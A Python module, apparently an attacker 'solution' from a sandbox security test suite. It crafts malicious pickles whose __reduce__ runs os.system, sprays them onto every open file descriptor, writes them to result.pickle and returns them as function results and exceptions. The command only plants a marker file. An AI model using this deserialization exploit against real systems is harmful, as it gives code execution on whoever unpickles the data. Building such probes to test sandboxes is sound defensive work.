"""Sends the caller pickles that would run a command where they are read."""

import os
import pickle

from attacker import host, tried

KIND = "solution"
UNPROTECTED = "refused"


class _Payload(Exception):
    def __reduce__(self):
        return os.system, (f"touch {host['folder']}/planted",)

    def __str__(self):
        return pickle.dumps(self, 0).decode("latin-1")


class _Result:
    def __reduce__(self):
        return _Payload().__reduce__()


data = pickle.dumps(_Result())
frame = len(data).to_bytes(8, "big") + data
tried("pickles")
for fd in range(1, 256):
    try:
        os.set_blocking(fd, False)
        for text in (data, frame, len(data).to_bytes(4, "little") + data):
            os.write(fd, text)
    except OSError:
        continue
with open("result.pickle", "wb") as file:
    file.write(data)


def double(number):
    """Hand the payload out as a result and as an error."""
    if number == 2:
        return _Result()
    raise _Payload(data)
